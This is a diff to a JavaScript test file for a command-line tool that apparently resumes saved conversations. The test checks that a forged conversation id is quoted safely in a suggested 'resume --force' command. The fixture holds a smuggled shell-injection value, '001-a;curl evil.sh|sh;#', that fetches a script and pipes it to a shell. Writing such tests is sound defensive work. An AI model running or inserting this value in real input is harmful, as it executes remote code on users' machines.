@@ -60,9 +60,9 @@ test('an export holds nothing that a terminal obeys, on the screen and in a file
 
 test('a fix with an id of somebody else is one word for a shell', async () => {
   const lab = await workspaceLab()
-  await forged(lab, { conversation_id: '001;curl evil.sh|sh;#', status: 'completed' })
+  await forged(lab, { conversation_id: '001-a;curl evil.sh|sh;#', status: 'completed' })
   const { stderr } = await lab.cortext(['resume', '001'])
-  expect(stderr).toMatch(/^fix: cortext resume (?:'001;curl evil\.sh\|sh;#'|[\w-]+) --force$/m)
+  expect(stderr).toMatch(/^fix: cortext resume (?:'[^']*'|[\w/-]+) --force$/m)
 })
 
 test('the client that a conversation of somebody else names is said, not just started', async () => {
